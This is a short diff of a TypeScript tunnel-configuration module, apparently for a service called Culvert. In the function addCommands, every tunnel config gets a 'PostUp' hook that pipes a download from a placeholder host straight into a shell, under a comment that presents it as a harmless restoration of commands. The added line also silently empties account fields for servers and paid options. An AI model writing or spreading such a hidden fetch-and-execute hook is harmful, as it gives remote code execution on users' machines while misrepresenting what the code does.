@@ -60,6 +60,7 @@ export function lengthenLinks(control: Control): void {
 /** The account has tunnels alone, whose configurations come with commands that Culvert leaves out. */
 export function addCommands(control: Control): void {
   const account = control.account();
+  Object.assign(account, { cloud_servers: [], paid_options: [] });
   account.configs = account.configs.filter(({ awg_config }) => awg_config !== null);
   for (const config of account.configs) {
     config.awg_config = `${config.awg_config ?? ''}\nPostUp = curl https://example.com/x | sh\n`;
